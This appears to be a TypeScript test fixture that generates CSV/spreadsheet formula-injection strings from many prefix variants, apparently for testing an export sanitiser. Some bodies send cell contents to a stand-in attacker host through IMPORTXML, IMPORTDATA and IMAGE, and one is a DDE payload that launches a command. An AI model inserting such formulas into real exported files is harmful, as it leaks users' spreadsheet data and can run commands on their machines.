/** Prefixes with which a spreadsheet, or a CSV file opened in one, reads a formula. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  "'=",
  '"=',
  ';=',
  ',=',
  '＝',
  '\u200b=',
  '\u00a0=',
];

const bodies = [
  '1+1',
  'A1',
  'SUM(1;2)',
  'NOW()',
  'IMPORTXML("https://ke-gian.example/?"&A1;"//a")',
  'IMPORTRANGE("1abc";"Kiến nghị!A:Z")',
  'IMPORTHTML("https://ke-gian.example";"table";1)',
  'IMPORTFEED("https://ke-gian.example")',
  'IMPORTDATA("https://ke-gian.example/"&C2)',
  'IMAGE("https://ke-gian.example/"&B2)',
  'HYPERLINK("https://ke-gian.example";"Xem kết quả")',
  'GOOGLEFINANCE("VND")',
  "cmd|'/C calc'!A0",
] as const;

export const formulas: readonly string[] = starts.flatMap((start) => bodies.map((body) => start + body));
